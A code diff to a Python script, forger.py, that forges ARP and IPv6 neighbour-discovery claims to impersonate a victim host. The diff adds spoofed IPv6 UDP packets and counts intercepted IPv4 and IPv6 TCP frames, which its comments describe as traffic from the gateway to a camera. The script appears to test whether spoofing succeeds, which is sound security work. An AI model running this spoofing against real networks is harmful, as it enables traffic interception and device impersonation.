@@ -4,7 +4,7 @@
 forger.py INTERFACE MODE OWN_MAC VICTIM_IP VICTIM_IP6 GATEWAY_IP GATEWAY_IP6 GATEWAY_MAC MARKER
 
 MODE forge: claims by ARP (as a request, as an answer, in a frame with the victim's hardware address), by neighbour
-discovery (question, advertisement), and sends as the victim. MODE flood: claims ever new addresses of the zone.
+discovery (question, advertisement), and sends as the victim, by IPv4 and by IPv6. MODE flood: claims ever new addresses of the zone.
 Ends with its input. Prints a JSON object: how many frames were sent, and how many came that were sent to it.
 """
 import errno
@@ -54,6 +54,15 @@ def icmp6(source, rest):
     return ether(OWN, 0x86DD, struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + ends + message)
 
 
+def udp6(source):
+    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, GATEWAY6)
+    length = 8 + len(MARKER)
+    datagram = struct.pack("!HHHH", 5000, 123, length, 0) + MARKER
+    sum_ = checksum(ends + struct.pack("!IxxxB", length, 17) + datagram)
+    datagram = datagram[:6] + struct.pack("!H", sum_) + datagram[8:]
+    return ether(OWN, 0x86DD, struct.pack("!IHBB", 6 << 28, length, 17, 64) + ends + datagram)
+
+
 def ask6(source):
     return icmp6(source, b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, GATEWAY6) + b"\1\1" + OWN)
 
@@ -70,6 +79,7 @@ def forged(victim_mac):
     yield ask6(VICTIM6)
     yield advertise6(VICTIM6, VICTIM6)
     yield advertise6("fe80::66", VICTIM6)
+    yield udp6(VICTIM6)
 
 
 def claims(number):
@@ -101,5 +111,6 @@ while True:
         except BlockingIOError:
             break
         # To it, and a stream: what the gateway says to a camera.
-        heard += came[:6] == OWN and came[12:14] == b"\x08\0" and came[23] == 6
+        stream = (came[12:14] == b"\x08\0" and came[23] == 6) or (came[12:14] == b"\x86\xdd" and came[20] == 6)
+        heard += came[:6] == OWN and stream
 print(json.dumps({"sent": sent, "heard": heard}))
